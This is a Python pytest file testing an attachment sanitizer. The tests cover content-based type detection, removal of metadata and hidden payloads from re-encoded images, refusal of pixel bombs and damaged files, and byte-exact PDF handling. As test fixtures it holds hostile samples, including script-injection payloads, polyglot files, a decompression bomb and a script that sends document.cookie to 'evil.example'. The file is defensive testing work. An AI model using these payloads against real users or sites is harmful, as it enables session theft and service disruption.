"""attachments.sanitize on real files: the type comes from the content, images come out as
fresh pixels (no EXIF/GPS, no hidden payload, upright, first frame), bombs and broken files are
refused before they cost anything, PDFs pass byte for byte."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from attachments.sanitize import (
    ACCEPTED_MIME_TYPES,
    THUMBNAIL_SIDE,
    Kind,
    Limits,
    RejectCode,
    Rejected,
    sanitize,
)
from tests.unit.attachments.files import (
    GPS_IFD,
    LIMITS,
    ROTATE_90_CW,
    animated,
    decoded,
    exif_with_gps,
    image_bytes,
    pdf,
    png_declaring,
    zero_png_bomb,
)


def rejected(data: bytes, limits: Limits = LIMITS) -> RejectCode:
    with pytest.raises(Rejected) as caught:
        sanitize(data, limits)
    return caught.value.code


# --- type by content ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "mime", "extension"),
    [
        (image_bytes("JPEG"), "image/jpeg", "jpg"),
        (image_bytes("PNG"), "image/png", "png"),
        (image_bytes("WEBP"), "image/webp", "webp"),
        (image_bytes("HEIF"), "image/jpeg", "jpg"),  # HEIC becomes JPEG
    ],
    ids=["jpeg", "png", "webp", "heic"],
)
def test_accepted_images_are_re_encoded_as_their_type(
    data: bytes, mime: str, extension: str
) -> None:
    clean = sanitize(data, LIMITS)
    assert (clean.kind, clean.mime, clean.extension) == (Kind.IMAGE, mime, extension)
    assert (clean.width, clean.height) == (64, 48)
    out = decoded(clean.data)
    assert Image.MIME[out.format] == mime
    assert out.size == (64, 48)
    r, g, b = out.convert("RGB").getpixel((10, 10))[:3]
    assert r > 150 and g < 80 and b < 80  # still the red it was
    assert mime in ACCEPTED_MIME_TYPES


def test_heic_with_gps_comes_out_as_jpeg_without_it() -> None:
    data = image_bytes("HEIF", exif=exif_with_gps().tobytes())
    clean = sanitize(data, LIMITS)
    out = decoded(clean.data)
    assert out.format == "JPEG" and GPS_IFD not in out.getexif()
    assert "exif" not in out.info


@pytest.mark.parametrize(
    "data",
    [
        image_bytes("GIF", mode="P", color=1),
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"<!doctype html><html><script>fetch('/steal')</script></html>",  # "photo.jpg"
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,  # an EXE
        image_bytes("BMP"),
        image_bytes("TIFF"),
        b"PK\x03\x04" + b"\x00" * 40,  # a ZIP
        b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",  # an MP4 video
        b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",  # AVIF
    ],
    ids=["gif", "svg", "html", "exe", "bmp", "tiff", "zip", "mp4", "avif"],
)
def test_everything_else_is_unsupported(data: bytes) -> None:
    assert rejected(data) is RejectCode.UNSUPPORTED


def test_a_declared_type_cannot_smuggle_another_decoder() -> None:
    # JPEG magic bytes, then a PNG: only the JPEG decoder may read it, and it cannot.
    assert rejected(b"\xff\xd8\xff" + image_bytes("PNG")) is RejectCode.DAMAGED


# --- metadata and hidden payloads are gone -----------------------------------------------------


def test_gps_exif_is_gone_and_orientation_applied() -> None:
    source = Image.new("RGB", (64, 32), (0, 0, 255))
    source.paste((255, 0, 0), (0, 0, 32, 32))  # left half red, right half blue
    buffer = io.BytesIO()
    source.save(buffer, format="JPEG", exif=exif_with_gps(ROTATE_90_CW).tobytes(), quality=95)
    data = buffer.getvalue()
    assert GPS_IFD in Image.open(io.BytesIO(data)).getexif()

    clean = sanitize(data, LIMITS)

    out = decoded(clean.data)
    assert (clean.width, clean.height) == out.size == (32, 64)  # turned upright
    # Rotated clockwise: the stored left (red) half is now on top.
    assert out.getpixel((16, 8))[0] > 200 and out.getpixel((16, 56))[2] > 200
    assert dict(out.getexif()) == {}
    assert "exif" not in out.info and b"Exif" not in clean.data
    assert b"GPS" not in clean.data


def test_png_text_chunks_and_icc_profile_are_gone() -> None:
    from PIL import ImageCms, PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<script>alert(1)</script>")
    text.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret place</x:xmpmeta>")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 255, 0, 128)).save(
        buffer, format="PNG", pnginfo=text, icc_profile=icc
    )

    clean = sanitize(buffer.getvalue(), LIMITS)

    out = decoded(clean.data)
    assert out.mode == "RGBA" and out.getpixel((5, 5)) == (0, 255, 0, 128)  # alpha kept
    assert not set(out.info) & {"Comment", "XML:com.adobe.xmp", "icc_profile"}
    for marker in (b"<script>", b"secret place", b"iCCP", b"tEXt", b"iTXt"):
        assert marker not in clean.data


@pytest.mark.parametrize(
    "payload",
    [
        b"PK\x03\x04\x14\x00\x00\x00secret.txt THE-ZIP-PAYLOAD",
        b"<html><script>document.location='https://evil.example/'+document.cookie</script>",
    ],
    ids=["jpeg+zip", "jpeg+html"],
)
def test_a_polyglots_trailing_payload_is_gone(payload: bytes) -> None:
    data = image_bytes("JPEG") + payload
    assert payload in data
    clean = sanitize(data, LIMITS)
    assert payload not in clean.data and b"PK\x03\x04" not in clean.data
    assert b"<script>" not in clean.data
    assert decoded(clean.data).size == (64, 48)


@pytest.mark.parametrize("fmt", ["WEBP", "PNG"])
def test_animated_images_keep_only_the_first_frame(fmt: str) -> None:
    data = animated(fmt, [(255, 0, 0), (0, 255, 0), (0, 0, 255)])
    assert getattr(Image.open(io.BytesIO(data)), "n_frames", 1) == 3
    out = decoded(sanitize(data, LIMITS).data)
    assert getattr(out, "n_frames", 1) == 1
    r, g, b = out.convert("RGB").getpixel((16, 16))
    assert r > 200 and g < 50 and b < 50


def test_palette_transparency_and_cmyk_come_out_in_a_mode_the_format_writes() -> None:
    palette = io.BytesIO()
    Image.new("P", (8, 8), 0).save(palette, format="PNG", transparency=0)
    assert decoded(sanitize(palette.getvalue(), LIMITS).data).mode == "RGBA"
    cmyk = image_bytes("JPEG", mode="CMYK", color=(0, 255, 255, 0))
    assert decoded(sanitize(cmyk, LIMITS).data).mode == "RGB"


def test_a_16_bit_grey_png_is_scaled_not_clipped() -> None:
    data = image_bytes("PNG", mode="I;16", color=40_000)
    out = decoded(sanitize(data, LIMITS).data)
    assert out.mode == "L" and abs(out.getpixel((1, 1)) - 40_000 // 256) <= 1


def test_transparent_heic_becomes_a_jpeg_on_white() -> None:
    data = image_bytes("HEIF", mode="RGBA", color=(0, 0, 0, 0))
    out = decoded(sanitize(data, LIMITS).data)
    assert out.mode == "RGB" and min(out.getpixel((10, 10))) > 240


# --- thumbnails ------------------------------------------------------------------------------


def test_thumbnail_is_a_jpeg_of_at_most_320_px() -> None:
    clean = sanitize(image_bytes("PNG", size=(1000, 400), mode="RGBA", color=(0, 0, 0, 0)), LIMITS)
    assert clean.thumbnail is not None
    thumb = decoded(clean.thumbnail)
    assert thumb.format == "JPEG" and thumb.size == (THUMBNAIL_SIDE, 128)
    assert thumb.getpixel((5, 5)) == (255, 255, 255)  # transparent shows white, not black
    small = sanitize(image_bytes("JPEG", size=(40, 30)), LIMITS)
    assert small.thumbnail is not None and decoded(small.thumbnail).size == (40, 30)


# --- bombs, damage, size -------------------------------------------------------------------


def test_a_huge_declared_canvas_is_refused_from_the_header() -> None:
    data = png_declaring(30_000, 30_000)
    assert len(data) < 200
    assert rejected(data) is RejectCode.TOO_MANY_PIXELS


def test_pixels_are_counted_before_any_is_decoded() -> None:
    # 7000 x 6000 = 42 M pixels, over the 40 M limit, under Pillow's own warning threshold; the
    # pixel data is cut short, so a decode would say "damaged": "too many pixels" proves that
    # nothing was decoded.
    truncated = png_declaring(7000, 6000, idat=b"\x78\x9c\x00")
    assert rejected(truncated) is RejectCode.TOO_MANY_PIXELS
    bomb = zero_png_bomb(7000, 6000)  # about 40 kB that would inflate to 42 MB
    assert len(bomb) < 100_000
    assert rejected(bomb) is RejectCode.TOO_MANY_PIXELS


def test_the_pixel_limit_is_the_configured_one_and_pillows_global_is_untouched() -> None:
    before = Image.MAX_IMAGE_PIXELS
    data = image_bytes("PNG", size=(100, 100))
    assert rejected(data, Limits(max_bytes=LIMITS.max_bytes, max_pixels=9_999)) == (
        RejectCode.TOO_MANY_PIXELS
    )
    assert sanitize(data, Limits(max_bytes=LIMITS.max_bytes, max_pixels=10_000)).width == 100
    assert before == Image.MAX_IMAGE_PIXELS


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_a_truncated_image_is_damaged(fmt: str) -> None:
    data = image_bytes(fmt, size=(300, 200))
    assert rejected(data[: len(data) // 2]) is RejectCode.DAMAGED


def test_a_corrupt_header_is_damaged() -> None:
    assert rejected(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100) is RejectCode.DAMAGED
    assert rejected(b"\xff\xd8\xff\xe0" + b"garbage" * 10) is RejectCode.DAMAGED


def test_empty_and_too_large() -> None:
    assert rejected(b"") is RejectCode.EMPTY
    data = image_bytes("PNG")
    assert rejected(data, Limits(max_bytes=len(data) - 1, max_pixels=LIMITS.max_pixels)) == (
        RejectCode.TOO_LARGE
    )
    assert sanitize(data, Limits(max_bytes=len(data), max_pixels=LIMITS.max_pixels)).width == 64


def test_the_rejection_carries_its_code_and_a_message() -> None:
    with pytest.raises(ValueError, match="only JPEG") as caught:
        sanitize(b"GIF89a", LIMITS)
    assert isinstance(caught.value, Rejected) and caught.value.code == "unsupported_type"


# --- PDFs --------------------------------------------------------------------------------


def test_a_pdf_is_kept_byte_for_byte_without_thumbnail() -> None:
    data = pdf()
    clean = sanitize(data, LIMITS)
    assert clean.data == data
    assert (clean.kind, clean.mime, clean.extension) == (Kind.DOCUMENT, "application/pdf", "pdf")
    assert clean.thumbnail is None and clean.width is None and clean.height is None


def test_a_real_pdf_from_pillow_passes() -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (50, 50), (1, 2, 3)).save(buffer, format="PDF")
    assert sanitize(buffer.getvalue(), LIMITS).mime == "application/pdf"


@pytest.mark.parametrize(
    "prefix",
    [b"\n", b"<html><script>alert(1)</script>", b"\xef\xbb\xbf", b"    "],
    ids=["newline", "html", "bom", "spaces"],
)
def test_anything_before_the_pdf_header_is_unsupported(prefix: bytes) -> None:
    # Readers find "%PDF-" anywhere in the first kilobyte; a browser sniffing the same bytes
    # may see HTML. Only a file that is a PDF from byte 0 is one.
    assert rejected(prefix + pdf()) is RejectCode.UNSUPPORTED


def test_a_jpeg_pdf_polyglot_is_only_ever_the_jpeg() -> None:
    clean = sanitize(image_bytes("JPEG") + pdf(), LIMITS)
    assert clean.mime == "image/jpeg" and b"%PDF" not in clean.data


def test_a_pdf_without_its_end_marker_is_damaged() -> None:
    assert rejected(b"%PDF-1.7\n1 0 obj << >> endobj\n") is RejectCode.DAMAGED
    far_from_end = pdf() + b"%" + b"x" * 5000
    assert rejected(far_from_end) is RejectCode.DAMAGED
